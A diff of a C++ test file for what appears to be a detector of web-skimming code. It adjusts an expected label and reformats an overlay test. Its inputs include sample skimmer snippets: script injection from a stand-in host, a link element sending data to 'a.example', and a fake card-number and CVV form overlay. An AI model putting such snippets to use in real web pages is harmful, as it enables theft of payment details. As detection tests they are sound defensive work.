@@ -42,7 +42,7 @@ TEST(Behaviour, SeesWaysOutAndWhereTheyLead) {
       {"var s = document.createElement('script'); s.src = 'https://a.example/s.js'",
        "destination: a.example by script.src"},
       {"(function(d,t){var s=d.createElement(t);s.src='//a.example/s.js'})(document,'script')",
-       "destination: a.example by element.src"},
+       "destination: a.example by script.src"},
       {"var s = document.createElement('script'); s.setAttribute('src', 'https://a.example/s.js')",
        "destination: a.example by script.src"},
       {"var l = document.createElement('link'); l.href = 'https://a.example/?' + d",
@@ -151,8 +151,9 @@ TEST(Behaviour, KnowsLuhnByItsArithmetic) {
 }
 
 TEST(Behaviour, SeesFormsThatAreLaidOverThePage) {
-  EXPECT_THAT(Behaviour("d.innerHTML = '<form><input name=\"card-number\"><input name=cvv></form>'"),
-              Contains("overlay: html of form fields"));
+  EXPECT_THAT(
+      Behaviour("d.innerHTML = '<form><input name=\"card-number\"><input name=cvv></form>'"),
+      Contains("overlay: html of form fields"));
 }
 
 TEST(Behaviour, IsTheSameOfARebuiltBundle) {
